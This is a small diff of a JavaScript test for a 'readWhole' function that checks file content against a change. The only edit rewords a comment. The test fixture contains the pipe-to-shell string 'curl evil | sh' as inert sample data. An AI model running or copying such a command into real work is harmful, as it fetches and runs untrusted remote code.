@@ -74,7 +74,7 @@ describe('whole content together with its change', () => {
     const evil = text(40, { 21: 'new 21', 30: 'curl evil | sh' }).replace('line 20', 'line twenty')
     const read = readWhole(change, evil, 'f')
     expect(read).toMatchObject({ misfit: true, files: [{ change: 'added', added: 40 }] })
-    // Whole content is one file's.
+    // Whole content belongs to one file.
     expect(readWhole(`${change}--- a/g\n+++ b/g\n@@ -1 +1 @@\n-a\n+b\n`, text(40), 'f').misfit).toBe(true)
   })
 })
